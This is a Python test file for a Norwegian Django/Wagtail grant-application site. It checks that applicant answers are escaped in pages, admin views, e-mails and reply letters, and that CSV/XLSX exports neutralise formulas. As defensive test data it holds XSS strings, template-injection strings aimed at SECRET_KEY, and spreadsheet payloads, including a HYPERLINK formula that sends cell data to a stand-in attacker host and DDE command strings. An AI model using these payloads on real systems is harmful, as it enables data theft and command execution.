"""Answers are data, never markup, template code or formulas: HTML, script and template
syntax in an application are shown as typed, escaped in HTML and literal in plain text,
wherever it is shown; spreadsheet cells never start like a formula."""

import csv
import io
import re
from decimal import Decimal

from django.contrib.auth.models import Group
from django.core import mail

import pytest
from openpyxl import load_workbook

from forms.models import ApplicationSubmission, Municipality
from tests.conftest import oslo
from tests.forms_helpers import build_form, post_application, valid_answers

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
VARIABLE = "{{ settings.SECRET_KEY }}"
TAG = "{% debug %}"
PLACEHOLDER = "{kommune}"
PAYLOADS = [SCRIPT, ATTRIBUTE, VARIABLE, TAG, PLACEHOLDER]
NAME = f"{SCRIPT} {PLACEHOLDER} {VARIABLE}"
WHY = "\n".join(PAYLOADS)
SECRET = "test-only-secret-key"  # settings.SECRET_KEY in website/settings/test.py

ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
ESCAPED_ATTRIBUTE = "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"


@pytest.fixture
def form(home_page, clock):
    clock(oslo(2026, 4, 1, 12, 0))
    program, page, keys = build_form(home_page)
    return program, page, keys


@pytest.fixture
def reviewer(django_user_model):
    user = django_user_model.objects.create_user("behandler", password="x")
    user.groups.add(Group.objects.get(name="Søknadsbehandlere"))
    return user


@pytest.fixture
def applied(client, form, django_capture_on_commit_callbacks):
    """An application with every payload in its free-text answers, and its e-mails sent."""
    _program, page, keys = form
    with django_capture_on_commit_callbacks(execute=True):
        response = post_application(client, page, valid_answers(keys, name=NAME, why=WHY))
    assert response.status_code == 302
    return response["Location"], ApplicationSubmission.objects.get()


def assert_shown_escaped(html):
    """The payloads appear as text on the page: escaped, and never run or evaluated."""
    assert SCRIPT not in html and "<img src=x" not in html
    assert SECRET not in html
    assert ESCAPED_SCRIPT in html
    assert ESCAPED_ATTRIBUTE in html
    assert VARIABLE in html and TAG in html and PLACEHOLDER in html


def assert_not_shown_raw(html):
    assert SCRIPT not in html and "<img src=x" not in html and SECRET not in html


# The public pages


def test_the_form_shown_again_with_errors_escapes_what_was_typed(client, form):
    _program, page, keys = form
    response = post_application(client, page, valid_answers(keys, name=NAME, why=WHY, email="x"))
    assert response.status_code == 200
    assert_shown_escaped(response.content.decode())
    assert not ApplicationSubmission.objects.exists()


def test_the_confirmation_and_status_pages_show_nothing_raw(client, applied):
    confirmation_url, _submission = applied
    assert_not_shown_raw(client.get(confirmation_url).content.decode())
    receipt = next(m for m in mail.outbox if "Referansenummer" in m.body)
    status_path = "/" + re.search(r"http://\S+/status/\S+/", receipt.body).group(0).split("/", 3)[3]
    response = client.get(status_path)
    assert response.status_code == 200
    assert_not_shown_raw(response.content.decode())


# The admin


def test_the_admin_application_page_and_listings_escape_the_answers(
    client, applied, reviewer, django_user_model
):
    _url, submission = applied
    client.force_login(reviewer)
    page = client.get(f"/admin/soknader/liste/inspect/{submission.pk}/").content.decode()
    assert_shown_escaped(page)
    # A search for the payload shows it back escaped.
    listing = client.get("/admin/soknader/liste/", {"q": SCRIPT})
    assert listing.status_code == 200
    assert_not_shown_raw(listing.content.decode())
    # Wagtail's own submissions listing of the form page leads every role, the superuser
    # too, to «Søknader», where the answers are escaped as above.
    client.force_login(django_user_model.objects.create_superuser("sjef", password="x"))
    wagtail_listing = client.get(f"/admin/forms/submissions/{submission.page_id}/", follow=True)
    assert wagtail_listing.redirect_chain[0][0].startswith("/admin/soknader/liste/")
    assert_not_shown_raw(wagtail_listing.content.decode())


# E-mails: plain text, and without the answers (they are read behind the status link or
# the sign-in), so nothing typed can be sent on from the organisation's address


def test_receipt_and_notification_carry_none_of_the_typed_text(applied):
    receipt, notification = sorted(mail.outbox, key=lambda m: "Referansenummer" not in m.body)
    for message in (receipt, notification):
        for payload in PAYLOADS:
            assert payload not in message.body and payload not in message.subject
        assert "&lt;" not in message.body and "&quot;" not in message.body
        assert SECRET not in message.body
        # Plain text only: no HTML version that could run anything.
        assert not getattr(message, "alternatives", [])


def test_email_subjects_are_plain_text_too(client, form, django_capture_on_commit_callbacks):
    # An editor's «&» or «<» must not become «&amp;» or «&lt;» in a subject line.
    program, page, keys = form
    program.title = "Kunst & kultur <2026>"
    program.save_revision().publish()
    page.subject = "Ny søknad «VKU» & mer"
    page.save_revision().publish()
    with django_capture_on_commit_callbacks(execute=True):
        post_application(client, page, valid_answers(keys, name=NAME))
    receipt, notification = sorted(mail.outbox, key=lambda m: "Referansenummer" not in m.body)
    assert receipt.subject == "Kvittering for søknad VKU-2026-0001 – Kunst & kultur <2026>"
    assert notification.subject == "Ny søknad «VKU» & mer VKU-2026-0001 fra Bergen"
    assert "Vi har mottatt søknaden din til Kunst & kultur <2026>." in receipt.body


# Reply letters: placeholders are filled once; an applicant's «{kommune}» stays as typed


def test_reply_letters_fill_placeholders_once_and_are_shown_escaped(
    client, applied, reviewer, django_capture_on_commit_callbacks
):
    from applications.reply_letters import render_letter
    from forms.models import ReplyLetter

    _url, submission = applied
    page = submission.page.specific
    page.reply_letter_texts.filter(decision="innvilget").update(subject="Svar til {kontaktperson}")
    submission.status = "innvilget"
    submission.save()
    subject, body = render_letter(submission)
    # The contact person's name is put in as typed; its «{kommune}» is not filled in again.
    assert subject == f"Svar til {NAME}"
    assert body.startswith(f"Hei {NAME},")
    assert "Bergen er tatt opp i" in body

    client.force_login(reviewer)
    preview = client.get(f"/admin/soknader/liste/inspect/{submission.pk}/").content.decode()
    letter_preview = preview.split('class="reply-letter-preview">')[1].split("</pre>")[0]
    assert f"Hei {ESCAPED_SCRIPT} {PLACEHOLDER} {VARIABLE}," in letter_preview
    assert_not_shown_raw(preview)

    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/soknader/liste/{submission.pk}/svarbrev/")
    (letter,) = mail.outbox
    assert letter.subject == f"Svar til {NAME}"
    assert letter.body.startswith(f"Hei {NAME},")
    assert "&lt;" not in letter.body and SECRET not in letter.body
    assert not getattr(letter, "alternatives", [])
    assert ReplyLetter.objects.get().body == letter.body


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("Hei {kontaktperson", "Krøllparentesene må stå i par rundt et felt"),
        ("Hei {kontaktperson!x}", "Skriv feltene uten noe etter navnet"),
        ("Hei {kommune:d}", "Skriv feltene uten noe etter navnet"),
        ("Hei {kommune:>99999999999}", "Skriv feltene uten noe etter navnet"),
        ("Hei {kommune.__class__}", "Ukjent felt: {kommune.__class__}"),
    ],
)
def test_letter_templates_that_could_not_be_filled_in_are_refused(form, template, message):
    # Each of these passed the check before and then broke the application's admin page
    # (or, for the unpaired brace, the saving of the form page) with a server error.
    from django.core.exceptions import ValidationError

    _program, page, _keys = form
    letter = page.reply_letter_texts.get(decision="innvilget")
    letter.body = template
    with pytest.raises(ValidationError) as error:
        letter.full_clean()
    assert message in " ".join(error.value.message_dict["body"])


# Exports: no cell starts like a formula


FORMULAS = {
    "formula": '=HYPERLINK("http://angriper.example/?d="&A1;"Klikk")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}


@pytest.fixture
def exported_application(form):
    _program, page, _keys = form
    questions = [{"key": key, "label": key, "type": "singleline"} for key in FORMULAS] + [
        {"key": "ordinary", "label": "Vanlig", "type": "singleline"},
        {"key": "count", "label": "Antall", "type": "number"},
        {"key": "negative", "label": "Underskudd", "type": "number"},
        {"key": "question", "label": "=1+1 spørsmål", "type": "singleline"},
    ]
    return ApplicationSubmission.objects.create(
        page=page,
        reference="VKU-2026-0001",
        field_labels=questions,
        municipality=Municipality.objects.get(number="4601"),
        form_data={
            **FORMULAS,
            "ordinary": "Vi vil lære – mer",
            "count": "250",
            "negative": "-5",
            "question": "svar",
        },
    )


def export_rows(client, export):
    response = client.post(f"/admin/soknader/liste/?export={export}")
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if export == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header, *data = rows
    return header, [dict(zip(header, row, strict=True)) for row in data]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_exported_cells_never_start_like_a_formula(client, reviewer, exported_application, export):
    client.force_login(reviewer)
    header, (row,) = export_rows(client, export)
    for key, value in FORMULAS.items():
        # (XML, inside XLSX, turns a carriage return into a line feed.)
        assert row[key].replace("\r", "\n") == ("'" + value).replace("\r", "\n"), key
    texts = [*header, *(cell for key, cell in row.items() if key != "Underskudd")]
    for cell in texts:
        if isinstance(cell, str):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=1+1 spørsmål" in header  # an editor's question, too
    assert row["Vanlig"] == "Vi vil lære – mer"
    assert row["Referanse"] == "VKU-2026-0001"


def test_numbers_and_dates_stay_numbers_and_dates_in_xlsx(client, reviewer, exported_application):
    import datetime

    client.force_login(reviewer)
    _header, (row,) = export_rows(client, "xlsx")
    assert row["Antall"] == 250 and row["Underskudd"] == -5  # numbers Excel can add up
    assert isinstance(row["Mottatt"], datetime.datetime)
    _header, (row,) = export_rows(client, "csv")
    assert row["Underskudd"] == "-5"  # a number field's value: a number, not a formula
    assert Decimal(row["Antall"]) == 250
